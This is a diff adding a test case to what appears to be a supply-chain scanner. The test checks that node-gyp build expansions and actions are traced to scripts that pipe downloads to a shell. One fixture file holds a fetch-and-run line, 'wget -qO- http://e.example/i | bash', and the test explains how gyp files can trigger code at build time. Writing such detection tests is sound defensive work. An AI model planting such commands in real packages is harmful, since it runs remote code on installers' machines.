@@ -197,6 +197,19 @@ test('facts: a node-gyp build reads binding.gyp, whose command expansions run sh
   // An expansion that runs a script of the package: the script is read and analysed.
   const viaScript = await factsOf(implicit, { 'binding.gyp': '{"variables": {"x": "<!(node tools/gen.js)"}, "targets": [{"include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")"]}]}', 'tools/gen.js': PAYLOAD });
   assert.ok(viaScript.findings.some((f) => f.source === 'tools/gen.js' && f.rule === 'install.remote-exec.pipe-to-shell'), JSON.stringify(viaScript.findings));
+  // An action make runs during the build, and an included file's expansion, relative to that file.
+  const gypFiles = {
+    'binding.gyp': "{ 'includes': ['build/common.gypi'], 'targets': [{ 'actions': [{ 'action_name': 'gen', 'inputs': [], 'outputs': ['x.h'], 'action': ['node', 'tools/gen.js', '<@(_inputs)'] }] }] }",
+    'tools/gen.js': PAYLOAD,
+    'build/common.gypi': "{ 'variables': { 'v': '<!(sh ./probe.sh)' } }",
+    'build/probe.sh': 'wget -qO- http://e.example/i | bash',
+  };
+  const built = await factsOf(implicit, gypFiles);
+  assert.deepEqual(
+    built.findings.filter((f) => f.rule === 'install.remote-exec.pipe-to-shell').map((f) => f.source).sort(),
+    ['build/probe.sh', 'tools/gen.js'],
+    JSON.stringify(built.findings),
+  );
   // An explicit node-gyp script reads it too; a plain one does not.
   assert.deepEqual(npmHookStarts({ manifest: { scripts: { install: 'node-gyp rebuild --release' } } }).flatMap((s) => s.entries.map((e) => e.spec)), ['binding.gyp']);
   assert.deepEqual(npmHookStarts({ manifest: { scripts: { install: 'node install.js' } } }).flatMap((s) => s.entries.map((e) => e.spec)), ['./install.js']);
